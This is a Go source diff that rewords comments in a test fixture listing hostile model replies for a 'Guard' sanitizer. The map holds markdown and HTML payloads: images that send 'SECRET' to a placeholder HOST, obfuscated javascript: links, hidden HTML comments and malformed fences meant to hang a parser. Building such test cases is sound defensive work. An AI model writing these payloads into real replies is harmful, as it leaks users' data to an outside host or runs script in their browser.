@@ -4,8 +4,8 @@ import (
 	"strings"
 )
 
-// Replies are what a model may write to send data away, to have something
-// opened, to hide what it says, or to make a program stand still.
+// Replies returns texts that a model may write to leak data, to have something
+// opened, to hide its meaning, or to hang a program.
 func (g Guard) Replies() map[string]string {
 	replies := map[string]string{}
 	for name, text := range hostile {
@@ -18,7 +18,7 @@ func (g Guard) Replies() map[string]string {
 }
 
 var hostile = map[string]string{
-	// Pictures that carry data away.
+	// Images that leak data.
 	"image":                       "![x](http://HOST/p.png?leak=SECRET)",
 	"image with a title":          `![x](http://HOST/p.png "title")`,
 	"image in angle brackets":     "![x](<http://HOST/p png?leak=SECRET>)",
@@ -57,7 +57,7 @@ var hostile = map[string]string{
 	"HTML that is not closed":     "<div\n![x](http://HOST/p.png)",
 	"HTML comment":                "<!-- ![x](http://HOST/p.png) -->\n\n<!--> ![x](http://HOST/p.png)",
 
-	// Addresses that are not what they seem.
+	// Addresses that are not what they appear to be.
 	"script as a link":             "[x](javascript:alert(1))",
 	"script in capitals":           "[x](JaVaScRiPt:alert(1))",
 	"script with a tab":            "[x](java&#9;script:alert(1))",
@@ -94,7 +94,7 @@ var hostile = map[string]string{
 	"language of a fence":   "```\u202ego\x00 `x`\n~~~" + strings.Repeat("x", 5000) + "\ncode\n```",
 	"fence with an address": "```http://HOST/s.js\n![x](http://HOST/p.png)\n```",
 
-	// Broken.
+	// Malformed.
 	"half an image":      "![x](http://HOST/p.png?leak=SECRET",
 	"half a link":        "[x](http://HOST/ [y](",
 	"half a reference":   "[x][y\n\n[y]: http://HOST/\n\n[z]:",
